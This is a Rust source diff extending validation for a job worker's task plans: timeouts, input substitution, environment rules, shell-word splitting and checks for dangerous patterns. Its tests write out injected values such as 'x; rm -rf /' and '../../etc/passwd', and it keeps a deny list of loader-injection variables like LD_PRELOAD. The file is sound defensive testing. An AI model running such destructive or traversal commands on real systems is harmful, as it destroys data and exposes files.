-    pub fn substitute_input(&self, input: &serde_json::Value) -> AgwResult<Self> {
-        let mut substituted_args = Vec::new();
-
-        for arg in &self.args {
-            let substituted_arg = substitute_variables(arg, input)?;
-            substituted_args.push(substituted_arg);
+    /// Returns an error naming the first task without a timeout
+    pub fn require_timeouts(&self) -> AgwResult<()> {
+        match self
+            .tasks
+            .iter()
+            .find(|task| !task.detach && task.timeout_secs.is_none())
+        {
+            Some(task) => Err(AgwError::Worker(format!(
+                "Task {} has no timeout_secs, which this worker requires",
+                task.task_number
+            ))),
+            None => Ok(()),
         }
+    }
 
-        Ok(Self {
-            task_number: self.task_number,
-            command: self.command.clone(),
-            args: substituted_args,
-            input_from_task: self.input_from_task,
-            timeout_secs: self.timeout_secs,
-        })
+    /// Input fields the plan's arguments reference as `{{input.field}}`
+    ///
+    /// Inferred from the task arguments, the only fields input substitution
+    /// touches; plans have no separate declaration of their inputs.
+    #[must_use]
+    pub fn input_variables(&self) -> BTreeSet<String> {
+        self.tasks
+            .iter()
+            .flat_map(|task| &task.args)
+            .flat_map(|arg| INPUT_PATTERN.captures_iter(arg))
+            .map(|cap| cap[1].to_string())
+            .collect()
     }
 
-    /// Validate the task fields
+    /// Check a job's `input` against the variables the plan uses
+    ///
+    /// Returns the input's top-level fields that no task references, so the
+    /// caller can warn about them. A task with `input_as_file` receives the
+    /// whole input, so it counts as using every field.
     ///
     /// # Errors
     ///
-    /// Returns an error if any field contains dangerous patterns or exceeds limits
-    pub fn validate(&self) -> AgwResult<()> {
-        // Validate command
-        validate_string_field(&self.command, "command", MAX_COMMAND_LEN, false)?;
-        check_for_dangerous_patterns(&self.command, "command")?;
+    /// Returns an error if the plan uses input variables but `input` is null
+    pub fn check_declared_inputs(&self, input: &serde_json::Value) -> AgwResult<Vec<String>> {
+        let variables = self.input_variables();
+        if input.is_null() && !variables.is_empty() {
+            return Err(AgwError::Worker(format!(
+                "Plan uses input variables ({}) but the job has no input",
+                variables.into_iter().collect::<Vec<_>>().join(", ")
+            )));
+        }
+        if self.tasks.iter().any(|task| task.input_as_file) {
+            return Ok(Vec::new());
+        }
+        let unused = input
+            .as_object()
+            .map(|fields| {
+                fields
+                    .keys()
+                    .filter(|field| !variables.contains(*field))
+                    .cloned()
+                    .collect()
+            })
+            .unwrap_or_default();
+        Ok(unused)
+    }
+
+    /// Worst-case wall time in seconds: every task runs until its timeout and
+    /// then uses the full `kill_grace_secs` before being killed
+    ///
+    /// Detached tasks don't count, as the plan doesn't wait for them. Returns
+    /// `None` if any other task has no timeout (the plan is unbounded).
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the total overflows
+    pub fn max_runtime_secs(&self, kill_grace_secs: u64) -> AgwResult<Option<u64>> {
+        let timeouts: Option<Vec<u32>> = self
+            .tasks
+            .iter()
+            .filter(|task| !task.detach)
+            .map(|task| task.timeout_secs)
+            .collect();
+        let Some(timeouts) = timeouts else {
+            return Ok(None);
+        };
+
+        let task_budgets = timeouts
+            .into_iter()
+            .map(|timeout| checked_timeout_sum([u64::from(timeout), kill_grace_secs]))
+            .collect::<AgwResult<Vec<_>>>()?;
+        checked_timeout_sum(task_budgets).map(Some)
+    }
+
+    /// Substitute input variables in every task
+    ///
+    /// Unlike substituting task by task, this reports every problem at once: the
+    /// error lists each offending task number with all of its missing or
+    /// unsupported fields, so plan authors can fix everything in one pass.
+    ///
+    /// Every resolved variable is logged at trace level, masked by `redactor`.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if any task references input fields that are missing or
+    /// have unsupported types, or its substituted arguments exceed `limits`
+    pub fn substitute_input(
+        &self,
+        input: &serde_json::Value,
+        redactor: &Redactor,
+        limits: &SubstitutionLimits,
+    ) -> AgwResult<Self> {
+        let mut tasks = Vec::with_capacity(self.tasks.len());
+        let mut failures = Vec::new();
+
+        for task in &self.tasks {
+            let _span = tracing::trace_span!("substitute", task = task.task_number).entered();
+            let mut errors = SubstitutionErrors::default();
+            let substituted = task.substitute_collecting(input, &mut errors, redactor);
+            let mut problems = Vec::new();
+            if !errors.is_empty() {
+                problems.push(errors.message());
+            }
+            problems.extend(limits.blank_in(task, &substituted));
+            problems.extend(limits.exceeded_by(&substituted));
+            if !problems.is_empty() {
+                failures.push(format!(
+                    "task {}: {}",
+                    task.task_number,
+                    problems.join("; ")
+                ));
+            }
+            tasks.push(substituted);
+        }
+
+        if !failures.is_empty() {
+            return Err(AgwError::Worker(format!(
+                "Input substitution failed for {} task(s): {}",
+                failures.len(),
+                failures.join("; ")
+            )));
+        }
+
+        Ok(Self {
+            tasks,
+            ..self.clone()
+        })
+    }
+}
+
+impl Task {
+    /// Substitute input variables in task arguments
+    ///
+    /// Replaces {{input.field}} patterns with values from the job input data.
+    /// For example, "{{input.path}}" becomes "/tmp" if job.input = {"path": "/tmp"}
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a referenced field doesn't exist in the input data
+    #[allow(dead_code)] // Used in tests; the worker substitutes whole plans
+    pub fn substitute_input(&self, input: &serde_json::Value) -> AgwResult<Self> {
+        let mut errors = SubstitutionErrors::default();
+        let task = self.substitute_collecting(input, &mut errors, &Redactor::default());
+        if errors.is_empty() {
+            Ok(task)
+        } else {
+            Err(AgwError::Worker(errors.message()))
+        }
+    }
+
+    /// Substitute input variables in every argument, recording problems in `errors`
+    fn substitute_collecting(
+        &self,
+        input: &serde_json::Value,
+        errors: &mut SubstitutionErrors,
+        redactor: &Redactor,
+    ) -> Self {
+        let substituted_args = self
+            .args
+            .iter()
+            .map(|arg| substitute_collecting(arg, input, errors, redactor))
+            .collect();
+
+        Self {
+            args: substituted_args,
+            ..self.clone()
+        }
+    }
+
+    /// This task with `plan_env` underneath its own `env` (the task's entries win)
+    #[must_use]
+    pub fn inheriting_env(&self, plan_env: &BTreeMap<String, String>) -> Self {
+        let mut env = plan_env.clone();
+        env.extend(
+            self.env
+                .iter()
+                .map(|(name, value)| (name.clone(), value.clone())),
+        );
+        Self {
+            env,
+            ..self.clone()
+        }
+    }
+
+    /// Earlier tasks whose stdout is piped to this task's stdin, in order
+    ///
+    /// From `input_from_task` or `input_from_tasks`, whichever is set.
+    #[must_use]
+    pub fn input_tasks(&self) -> Vec<u32> {
+        match self.input_from_task {
+            Some(upstream) => vec![upstream],
+            None => self.input_from_tasks.clone(),
+        }
+    }
+
+    /// What the task's stdin is connected to, `stdin_mode` or its default
+    #[must_use]
+    pub fn stdin_mode(&self) -> StdinMode {
+        match self.stdin_mode {
+            Some(mode) => mode,
+            None if self.input_tasks().is_empty() => StdinMode::Null,
+            None => StdinMode::FromTask,
+        }
+    }
+
+    /// Name of the field `input_tasks` come from, for messages
+    #[must_use]
+    pub fn input_field(&self) -> &'static str {
+        if self.input_from_tasks.is_empty() {
+            "input_from_task"
+        } else {
+            "input_from_tasks"
+        }
+    }
+
+    /// Earlier tasks whose stdout the arguments reference as `{{task.N.stdout}}`
+    ///
+    /// Deduplicated, in order of first use. A number too large for a task number
+    /// is reported as `u32::MAX` so validation rejects it.
+    #[must_use]
+    pub fn output_references(&self) -> Vec<u32> {
+        let mut references = Vec::new();
+        for arg in &self.args {
+            for cap in TASK_OUTPUT_PATTERN.captures_iter(arg) {
+                let task_number = cap[1].parse().unwrap_or(u32::MAX);
+                if !references.contains(&task_number) {
+                    references.push(task_number);
+                }
+            }
+        }
+        references
+    }
+
+    /// Replace `{{task.N.stdout}}` in arguments with task N's trimmed stdout
+    ///
+    /// Resolved while the plan runs, so the substituted arguments are checked
+    /// here with the same rules plan validation applies to literal arguments.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a referenced task has no output yet, or a resolved
+    /// argument is too long or contains dangerous patterns
+    pub fn substitute_task_outputs(
+        &self,
+        outputs: &std::collections::HashMap<u32, String>,
+    ) -> AgwResult<Self> {
+        let mut args = Vec::with_capacity(self.args.len());
+        for (i, arg) in self.args.iter().enumerate() {
+            let mut missing = None;
+            let resolved = TASK_OUTPUT_PATTERN.replace_all(arg, |cap: &regex::Captures| {
+                let task_number = cap[1].parse().unwrap_or(u32::MAX);
+                outputs.get(&task_number).map_or_else(
+                    || {
+                        missing = Some(task_number);
+                        String::new()
+                    },
+                    |stdout| stdout.trim().to_string(),
+                )
+            });
+            if let Some(task_number) = missing {
+                return Err(AgwError::Worker(format!(
+                    "Task {} references {{{{task.{task_number}.stdout}}}} but task {task_number} has no output",
+                    self.task_number
+                )));
+            }
+
+            let field = format!("task {} args[{i}]", self.task_number);
+            validate_string_field(&resolved, &field, MAX_ARG_LEN, false)?;
+            check_for_dangerous_patterns(&resolved, &field)?;
+            args.push(resolved.into_owned());
+        }
+
+        Ok(Self {
+            args,
+            ..self.clone()
+        })
+    }
+
+    /// Validate the task fields
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if any field contains dangerous patterns or exceeds limits
+    pub fn validate(&self) -> AgwResult<()> {
+        // Validate command (a shell script legitimately contains shell syntax;
+        // whether it may run at all is decided by the plan's trust check)
+        validate_string_field(&self.command, "command", MAX_COMMAND_LEN, false)?;
+        if !self.shell {
+            check_for_dangerous_patterns(&self.command, "command")?;
+        }
 
         // Validate arguments
         if self.args.len() > MAX_ARGS_COUNT {
@@ -315,6 +1337,8 @@ impl Task {
             check_for_dangerous_patterns(arg, &format!("args[{i}]"))?;
         }
 
+        validate_env(&self.env, &format!("Task {} env", self.task_number))?;
+
         // Validate timeout if present
         if let Some(timeout) = self.timeout_secs {
             if timeout < MIN_TIMEOUT_SECS {
@@ -331,10 +1355,234 @@ impl Task {
             }
         }
 
+        // Validate soft deadline if present
+        if let Some(soft_deadline) = self.soft_deadline_secs {
+            if !(MIN_TIMEOUT_SECS..=MAX_TIMEOUT_SECS).contains(&soft_deadline) {
+                return Err(AgwError::Worker(format!(
+                    "Task {} soft_deadline_secs must be between {MIN_TIMEOUT_SECS} and {MAX_TIMEOUT_SECS} seconds",
+                    self.task_number
+                )));
+            }
+            if self
+                .timeout_secs
+                .is_some_and(|timeout| soft_deadline >= timeout)
+            {
+                return Err(AgwError::Worker(format!(
+                    "Task {} soft_deadline_secs must be less than timeout_secs",
+                    self.task_number
+                )));
+            }
+        }
+
+        if self.encode_output_base64 && self.expect_json {
+            return Err(AgwError::Worker(format!(
+                "Task {} cannot use both encode_output_base64 and expect_json",
+                self.task_number
+            )));
+        }
+
+        if self.retries > MAX_TASK_RETRIES {
+            return Err(AgwError::Worker(format!(
+                "Task {} retries must not exceed {MAX_TASK_RETRIES}",
+                self.task_number
+            )));
+        }
+
+        if self.retries > 0 && !self.idempotent {
+            return Err(AgwError::Worker(format!(
+                "Task {} is not idempotent and cannot be retried",
+                self.task_number
+            )));
+        }
+
+        if self.input_from_task.is_some() && !self.input_from_tasks.is_empty() {
+            return Err(AgwError::Worker(format!(
+                "Task {} cannot use both input_from_task and input_from_tasks",
+                self.task_number
+            )));
+        }
+
+        if let Some(duplicate) =
+            self.input_from_tasks
+                .iter()
+                .enumerate()
+                .find_map(|(i, upstream)| {
+                    self.input_from_tasks[..i]
+                        .contains(upstream)
+                        .then_some(upstream)
+                })
+        {
+            return Err(AgwError::Worker(format!(
+                "Task {} lists task {duplicate} in input_from_tasks more than once",
+                self.task_number
+            )));
+        }
+
+        match (self.stdin_mode, self.input_tasks().is_empty()) {
+            (Some(StdinMode::FromTask), true) => {
+                return Err(AgwError::Worker(format!(
+                    "Task {} stdin_mode from_task requires input_from_task or input_from_tasks",
+                    self.task_number
+                )));
+            }
+            (Some(StdinMode::Null | StdinMode::Empty), false) => {
+                return Err(AgwError::Worker(format!(
+                    "Task {} cannot use {} unless stdin_mode is from_task",
+                    self.task_number,
+                    self.input_field()
+                )));
+            }
+            _ => {}
+        }
+
+        if self.json_format.is_some() && !self.expect_json {
+            return Err(AgwError::Worker(format!(
+                "Task {} json_format requires expect_json",
+                self.task_number
+            )));
+        }
+
+        if self.detach {
+            let unsupported = [
+                ("timeout_secs", self.timeout_secs.is_some()),
+                ("soft_deadline_secs", self.soft_deadline_secs.is_some()),
+                ("input_from_task", self.input_from_task.is_some()),
+                ("input_from_tasks", !self.input_from_tasks.is_empty()),
+                ("stdin_mode", self.stdin_mode == Some(StdinMode::Empty)),
+                ("input_as_file", self.input_as_file),
+                ("expect_json", self.expect_json),
+                ("max_output_bytes", self.max_output_bytes.is_some()),
+                ("fifo_output", self.fifo_output.is_some()),
+                ("encode_output_base64", self.encode_output_base64),
+                ("retries", self.retries > 0),
+            ];
+            if let Some((field, _)) = unsupported.iter().find(|(_, set)| *set) {
+                return Err(AgwError::Worker(format!(
+                    "Task {} is detached and cannot use {field}",
+                    self.task_number
+                )));
+            }
+        }
+
+        if let Some(path) = &self.fifo_output {
+            self.validate_fifo_output(path)?;
+        }
+
+        // Validate output cap if present
+        if self.max_output_bytes == Some(0) {
+            return Err(AgwError::Worker(format!(
+                "Task {} max_output_bytes must be greater than 0",
+                self.task_number
+            )));
+        }
+
+        Ok(())
+    }
+
+    fn validate_fifo_output(&self, path: &str) -> AgwResult<()> {
+        let field = format!("Task {} fifo_output", self.task_number);
+        if !cfg!(unix) {
+            return Err(AgwError::Worker(format!(
+                "{field} is only supported on Unix"
+            )));
+        }
+        validate_string_field(path, &field, MAX_FIFO_PATH_LEN, true)?;
+        check_for_dangerous_patterns(path, &field)?;
+        let path = std::path::Path::new(path);
+        if !path.is_absolute()
+            || path
+                .components()
+                .any(|c| matches!(c, std::path::Component::ParentDir))
+        {
+            return Err(AgwError::Worker(format!(
+                "{field} must be an absolute path without '..'"
+            )));
+        }
         Ok(())
     }
 }
 
+/// Split `line` into words with shell quoting rules, but no expansion of any kind
+///
+/// Whitespace separates words; single quotes keep everything literally; within
+/// double quotes only `\"` and `\\` are escapes; a backslash outside quotes
+/// escapes the next character.
+fn split_words(line: &str) -> Result<Vec<String>, &'static str> {
+    let mut words = Vec::new();
+    let mut word: Option<String> = None;
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            c if c.is_whitespace() => words.extend(word.take()),
+            '\'' => {
+                let word = word.get_or_insert_with(String::new);
+                loop {
+                    match chars.next() {
+                        Some('\'') => break,
+                        Some(c) => word.push(c),
+                        None => return Err("has an unterminated single quote"),
+                    }
+                }
+            }
+            '"' => {
+                let word = word.get_or_insert_with(String::new);
+                loop {
+                    match chars.next() {
+                        Some('"') => break,
+                        Some('\\') => match chars.next() {
+                            Some(c @ ('"' | '\\')) => word.push(c),
+                            Some(c) => {
+                                word.push('\\');
+                                word.push(c);
+                            }
+                            None => return Err("has an unterminated double quote"),
+                        },
+                        Some(c) => word.push(c),
+                        None => return Err("has an unterminated double quote"),
+                    }
+                }
+            }
+            '\\' => match chars.next() {
+                Some(c) => word.get_or_insert_with(String::new).push(c),
+                None => return Err("ends with a backslash"),
+            },
+            c => word.get_or_insert_with(String::new).push(c),
+        }
+    }
+    words.extend(word);
+    Ok(words)
+}
+
+/// Validate a command name the way task commands are validated
+///
+/// # Errors
+///
+/// Returns an error if the command is empty, too long, or contains dangerous patterns
+pub fn validate_command(command: &str) -> AgwResult<()> {
+    validate_string_field(command, "command", MAX_COMMAND_LEN, true)?;
+    check_for_dangerous_patterns(command, "command")
+}
+
+/// Reject the first key of a JSON object that is not in `known`
+///
+/// Non-objects are left for deserialization to report.
+fn check_known_fields(
+    value: &serde_json::Value,
+    known: &[&str],
+    context: &str,
+) -> Result<(), serde_json::Error> {
+    let unknown = value
+        .as_object()
+        .and_then(|object| object.keys().find(|key| !known.contains(&key.as_str())));
+    match unknown {
+        Some(field) => Err(serde::de::Error::custom(format!(
+            "unknown field `{field}` in {context}, expected one of: {}",
+            known.join(", ")
+        ))),
+        None => Ok(()),
+    }
+}
+
 /// Validate a string field for length and dangerous characters
 fn validate_string_field(
     value: &str,
@@ -378,6 +1626,44 @@ fn validate_string_field(
     Ok(())
 }
 
+/// Validate environment variable names and values
+///
+/// Values are passed to the process as-is, never through a shell, so only
+/// the string checks apply to them.
+fn validate_env(env: &BTreeMap<String, String>, field_name: &str) -> AgwResult<()> {
+    if env.len() > MAX_ENV_VARS {
+        return Err(AgwError::Worker(format!(
+            "{field_name} exceeds maximum of {MAX_ENV_VARS} variables"
+        )));
+    }
+    for (name, value) in env {
+        let valid_name = name.len() <= MAX_ENV_NAME_LEN
+            && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+        if !valid_name {
+            return Err(AgwError::Worker(format!(
+                "{field_name} has invalid variable name '{name}'"
+            )));
+        }
+        if RESERVED_ENV_NAMES.contains(&name.as_str())
+            || RESERVED_ENV_PREFIXES
+                .iter()
+                .any(|prefix| name.starts_with(prefix))
+        {
+            return Err(AgwError::Worker(format!(
+                "{field_name} cannot set reserved variable {name}"
+            )));
+        }
+        validate_string_field(
+            value,
+            &format!("{field_name}.{name}"),
+            MAX_ENV_VALUE_LEN,
+            false,
+        )?;
+    }
+    Ok(())
+}
+
 /// Check for dangerous shell patterns
 fn check_for_dangerous_patterns(value: &str, field_name: &str) -> AgwResult<()> {
     let dangerous_chars = ['&', '|', ';', '$', '`', '\n', '\r'];
@@ -404,6 +1690,63 @@ fn check_for_dangerous_patterns(value: &str, field_name: &str) -> AgwResult<()>
 mod tests {
     use super::*;
 
+    #[test]
+    fn test_split_words() {
+        let split = |line| split_words(line).unwrap();
+        assert_eq!(split("sort -r  -k 2"), ["sort", "-r", "-k", "2"]);
+        assert_eq!(
+            split("grep -i 'a  b' \"c \\\"d\\\"\""),
+            ["grep", "-i", "a  b", "c \"d\""]
+        );
+        assert_eq!(split("echo a\\ b '' x'y'\"z\""), ["echo", "a b", "", "xyz"]);
+        assert_eq!(split(r#"printf "a\tb""#), ["printf", r"a\tb"]);
+        assert!(split("  ").is_empty());
+
+        assert!(split_words("echo 'open").is_err());
+        assert!(split_words("echo \"open").is_err());
+        assert!(split_words("echo \\").is_err());
+    }
+
+    #[test]
+    fn test_parse_command_strings() {
+        let mut plan = Plan::from_json(
+            r#"{"plan_id":"p","parse_command_strings":true,"tasks":[
+                {"task_number":1,"command":"grep -i 'error: disk'","args":["log.txt"]},
+                {"task_number":2,"command":"sort","input_from_task":1},
+                {"task_number":3,"command":"echo a b","shell":true}
+            ]}"#,
+        )
+        .unwrap();
+        plan.split_command_strings().unwrap();
+        assert_eq!(plan.tasks[0].command, "grep");
+        assert_eq!(plan.tasks[0].args, ["-i", "error: disk", "log.txt"]);
+        assert_eq!(plan.tasks[1].command, "sort");
+        assert!(plan.tasks[1].args.is_empty());
+        assert_eq!(plan.tasks[2].command, "echo a b");
+
+        // Without the flag commands are kept whole
+        let mut plan =
+            Plan::from_json(r#"{"plan_id":"p","tasks":[{"task_number":1,"command":"sort -r"}]}"#)
+                .unwrap();
+        plan.split_command_strings().unwrap();
+        assert_eq!(plan.tasks[0].command, "sort -r");
+
+        // Each resulting argv is validated
+        for command in ["cat '../secret'", "echo 'unterminated", "''"] {
+            let mut plan = Plan {
+                plan_id: "p".to_string(),
+                parse_command_strings: true,
+                tasks: vec![Task {
+                    task_number: 1,
+                    command: command.to_string(),
+                    ..Default::default()
+                }],
+                ..Default::default()
+            };
+            assert!(plan.split_command_strings().is_err(), "{command}");
+        }
+    }
+
     #[test]
     fn test_plan_creation() {
         let plan = Plan {
@@ -415,7 +1758,9 @@ mod tests {
                 args: vec!["hello".to_string()],
                 input_from_task: None,
                 timeout_secs: Some(30),
+                ..Default::default()
             }],
+            ..Default::default()
         };
 
         assert_eq!(plan.plan_id, "plan-456");
@@ -433,7 +1778,9 @@ mod tests {
                 args: vec!["-la".to_string()],
                 input_from_task: None,
                 timeout_secs: Some(30),
+                ..Default::default()
             }],
+            ..Default::default()
         };
 
         let json = plan.to_json().unwrap();
@@ -453,6 +1800,7 @@ mod tests {
                     args: vec!["-r".to_string()],
                     input_from_task: None,
                     timeout_secs: Some(30),
+                    ..Default::default()
                 },
                 Task {
                     task_number: 2,
@@ -460,8 +1808,10 @@ mod tests {
                     args: vec![],
                     input_from_task: Some(1),
                     timeout_secs: Some(30),
+                    ..Default::default()
                 },
             ],
+            ..Default::default()
         };
 
         assert_eq!(plan.tasks.len(), 2);
@@ -480,6 +1830,7 @@ mod tests {
                     args: vec!["test".to_string()],
                     input_from_task: None,
                     timeout_secs: Some(30),
+                    ..Default::default()
                 },
                 Task {
                     task_number: 2,
@@ -487,8 +1838,10 @@ mod tests {
                     args: vec!["-l".to_string()],
                     input_from_task: Some(1),
                     timeout_secs: Some(30),
+                    ..Default::default()
                 },
             ],
+            ..Default::default()
         };
 
         assert!(plan.validate().is_ok());
@@ -500,11 +1853,36 @@ mod tests {
             plan_id: "plan-456".to_string(),
             plan_description: None,
             tasks: vec![],
+            ..Default::default()
         };
 
         assert!(plan.validate().is_err());
     }
 
+    #[test]
+    fn test_plan_validation_duplicate_task_numbers() {
+        let task = |task_number, command: &str| Task {
+            task_number,
+            command: command.to_string(),
+            ..Default::default()
+        };
+        let plan = Plan {
+            plan_id: "plan-456".to_string(),
+            tasks: vec![task(1, "echo"), task(1, "sort"), task(2, "wc")],
+            ..Default::default()
+        };
+
+        let err = plan.validate().unwrap_err().to_string();
+        assert!(err.contains("duplicate task number 1"), "{err}");
+
+        let plan = Plan {
+            tasks: vec![task(1, "echo"), task(2, "sort"), task(2, "wc")],
+            ..plan
+        };
+        let err = plan.validate().unwrap_err().to_string();
+        assert!(err.contains("duplicate task number 2"), "{err}");
+    }
+
     #[test]
     fn test_plan_validation_non_contiguous_tasks() {
         let plan = Plan {
@@ -517,6 +1895,7 @@ mod tests {
                     args: vec![],
                     input_from_task: None,
                     timeout_secs: None,
+                    ..Default::default()
                 },
                 Task {
                     task_number: 3, // Skip 2
@@ -524,8 +1903,10 @@ mod tests {
                     args: vec![],
                     input_from_task: None,
                     timeout_secs: None,
+                    ..Default::default()
                 },
             ],
+            ..Default::default()
         };
 
         assert!(plan.validate().is_err());
@@ -543,6 +1924,7 @@ mod tests {
                     args: vec![],
                     input_from_task: None,
                     timeout_secs: None,
+                    ..Default::default()
                 },
                 Task {
                     task_number: 2,
@@ -550,37 +1932,886 @@ mod tests {
                     args: vec![],
                     input_from_task: Some(2), // Cannot reference self
                     timeout_secs: None,
+                    ..Default::default()
                 },
             ],
+            ..Default::default()
         };
 
         assert!(plan.validate().is_err());
     }
 
     #[test]
-    fn test_task_validation_command_injection() {
-        let task = Task {
-            task_number: 1,
-            command: "ls; rm -rf /".to_string(),
-            args: vec![],
-            input_from_task: None,
-            timeout_secs: None,
+    fn test_plan_validation_input_from_tasks() {
+        let merge = |input_from_tasks: Vec<u32>| Plan {
+            plan_id: "plan-456".to_string(),
+            tasks: vec![
+                Task {
+                    task_number: 1,
+                    command: "echo".to_string(),
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 2,
+                    command: "echo".to_string(),
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 3,
+                    command: "wc".to_string(),
+                    input_from_tasks,
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
         };
 
-        assert!(task.validate().is_err());
+        assert!(merge(vec![1, 2]).validate().is_ok());
+        assert!(merge(vec![2, 1]).validate().is_ok());
+
+        let err = merge(vec![1, 3]).validate().unwrap_err().to_string();
+        assert!(
+            err.contains("invalid input_from_tasks 3: cannot reference self or future tasks"),
+            "{err}"
+        );
+        let err = merge(vec![0]).validate().unwrap_err().to_string();
+        assert!(err.contains("input_from_tasks must be >= 1"), "{err}");
+        let err = merge(vec![1, 2, 1]).validate().unwrap_err().to_string();
+        assert!(
+            err.contains("lists task 1 in input_from_tasks more than once"),
+            "{err}"
+        );
+
+        let mut both = merge(vec![1, 2]);
+        both.tasks[2].input_from_task = Some(1);
+        let err = both.validate().unwrap_err().to_string();
+        assert!(
+            err.contains("cannot use both input_from_task and input_from_tasks"),
+            "{err}"
+        );
     }
 
     #[test]
-    fn test_task_validation_timeout_too_low() {
-        let task = Task {
-            task_number: 1,
-            command: "sleep".to_string(),
+    fn test_stdin_mode() {
+        let task = |stdin_mode, input_from_task| Task {
+            task_number: 2,
+            command: "cat".to_string(),
+            stdin_mode,
+            input_from_task,
+            ..Default::default()
+        };
+        assert_eq!(task(None, None).stdin_mode(), StdinMode::Null);
+        assert_eq!(task(None, Some(1)).stdin_mode(), StdinMode::FromTask);
+        assert_eq!(
+            task(Some(StdinMode::Empty), None).stdin_mode(),
+            StdinMode::Empty
+        );
+        assert!(task(Some(StdinMode::Empty), None).validate().is_ok());
+        assert!(task(Some(StdinMode::FromTask), Some(1)).validate().is_ok());
+
+        let err = task(Some(StdinMode::FromTask), None)
+            .validate()
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains("stdin_mode from_task requires input_from_task"),
+            "{err}"
+        );
+        let err = task(Some(StdinMode::Null), Some(1))
+            .validate()
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains("cannot use input_from_task unless stdin_mode is from_task"),
+            "{err}"
+        );
+
+        let parsed: Task =
+            serde_json::from_str(r#"{"task_number": 1, "command": "cat", "stdin_mode": "empty"}"#)
+                .unwrap();
+        assert_eq!(parsed.stdin_mode, Some(StdinMode::Empty));
+    }
+
+    #[test]
+    fn test_retries_validation() {
+        let task = |retries, idempotent| Task {
+            task_number: 1,
+            command: "curl".to_string(),
+            retries,
+            idempotent,
+            ..Default::default()
+        };
+        assert!(task(MAX_TASK_RETRIES, true).validate().is_ok());
+
+        let err = task(MAX_TASK_RETRIES + 1, true).validate().unwrap_err();
+        assert!(err.to_string().contains("retries must not exceed"), "{err}");
+        let err = task(1, false).validate().unwrap_err();
+        assert!(err.to_string().contains("cannot be retried"), "{err}");
+        let err = Task {
+            detach: true,
+            ..task(1, true)
+        }
+        .validate()
+        .unwrap_err();
+        assert!(err.to_string().contains("cannot use retries"), "{err}");
+    }
+
+    #[test]
+    fn test_env_validation() {
+        let with_env = |name: &str, value: &str| Plan {
+            plan_id: "plan-env".to_string(),
+            tasks: vec![Task {
+                task_number: 1,
+                command: "printenv".to_string(),
+                ..Default::default()
+            }],
+            env: BTreeMap::from([(name.to_string(), value.to_string())]),
+            ..Default::default()
+        };
+
+        assert!(with_env("LANG", "C").validate().is_ok());
+        assert!(with_env("_PRIVATE_1", "a;b $c").validate().is_ok());
+        for name in ["", "1ABC", "MY-VAR", "A=B", "AGW_INPUT_FILE", "LD_PRELOAD"] {
+            assert!(with_env(name, "x").validate().is_err(), "{name}");
+        }
+        let err = with_env("LANG", "C\0").validate().unwrap_err().to_string();
+        assert!(err.contains("env.LANG contains null byte"), "{err}");
+
+        for name in RESERVED_ENV_NAMES.iter().copied().chain([
+            "BASH_FUNC_ls",
+            "DYLD_INSERT_LIBRARIES",
+            "AGW_SESSION_KEY",
+        ]) {
+            let err = with_env(name, "/tmp/plan").validate().unwrap_err();
+            assert!(
+                err.to_string()
+                    .contains(&format!("env cannot set reserved variable {name}")),
+                "{name}: {err}"
+            );
+        }
+        // Only the exact names are reserved
+        assert!(with_env("PATH_PREFIX", "x").validate().is_ok());
+        assert!(with_env("MY_PYTHONPATH", "x").validate().is_ok());
+
+        let mut task_env = with_env("LANG", "C");
+        task_env.tasks[0].env =
+            BTreeMap::from([("DYLD_LIBRARY_PATH".to_string(), "/x".to_string())]);
+        let err = task_env.validate().unwrap_err().to_string();
+        assert!(
+            err.contains("Task 1 env cannot set reserved variable DYLD_LIBRARY_PATH"),
+            "{err}"
+        );
+    }
+
+    #[test]
+    fn test_task_output_references_validated() {
+        let echo = |task_number: u32, args: &[&str]| Task {
+            task_number,
+            command: "echo".to_string(),
+            args: args.iter().map(ToString::to_string).collect(),
+            ..Default::default()
+        };
+        let plan = |second: Task| Plan {
+            plan_id: "plan-1".to_string(),
+            tasks: vec![echo(1, &[]), second],
+            ..Default::default()
+        };
+
+        let task = echo(2, &["{{task.1.stdout}}", "--out={{task.1.stdout}}.gz"]);
+        assert_eq!(task.output_references(), [1]);
+        assert!(plan(task).validate().is_ok());
+
+        for bad in [
+            "{{task.0.stdout}}",
+            "{{task.2.stdout}}",
+            "{{task.3.stdout}}",
+        ] {
+            assert!(plan(echo(2, &[bad])).validate().is_err(), "{bad}");
+        }
+        let overflowing = echo(2, &["{{task.99999999999.stdout}}"]);
+        assert_eq!(overflowing.output_references(), [u32::MAX]);
+        assert!(plan(overflowing).validate().is_err());
+
+        let mut detached = plan(echo(2, &["{{task.1.stdout}}"]));
+        detached.tasks[0].detach = true;
+        assert!(detached.validate().is_err());
+    }
+
+    #[test]
+    fn test_substitute_task_outputs_trims_and_checks_values() {
+        let task = Task {
+            task_number: 2,
+            command: "gzip".to_string(),
+            args: vec!["{{task.1.stdout}}".to_string(), "-k".to_string()],
+            ..Default::default()
+        };
+        let outputs = |stdout: &str| std::collections::HashMap::from([(1, stdout.to_string())]);
+
+        let resolved = task
+            .substitute_task_outputs(&outputs("  report.csv\n"))
+            .unwrap();
+        assert_eq!(resolved.args, ["report.csv", "-k"]);
+
+        assert!(task
+            .substitute_task_outputs(&outputs("x; rm -rf /"))
+            .is_err());
+        assert!(task
+            .substitute_task_outputs(&outputs("../../etc/passwd"))
+            .is_err());
+        assert!(task
+            .substitute_task_outputs(&std::collections::HashMap::new())
+            .is_err());
+    }
+
+    #[test]
+    fn test_strict_parsing_rejects_misspelled_fields() {
+        let json =
+            r#"{"plan_id":"p","tasks":[{"task_number":1,"command":"sleep","timeoutsecs":5}]}"#;
+
+        // Lenient: the typo is ignored and the timeout silently stays unset
+        let plan = Plan::from_json(json).unwrap();
+        assert_eq!(plan.tasks[0].timeout_secs, None);
+
+        let err = Plan::from_json_strict(json).unwrap_err().to_string();
+        assert!(
+            err.contains("unknown field `timeoutsecs` in tasks[0]"),
+            "{err}"
+        );
+
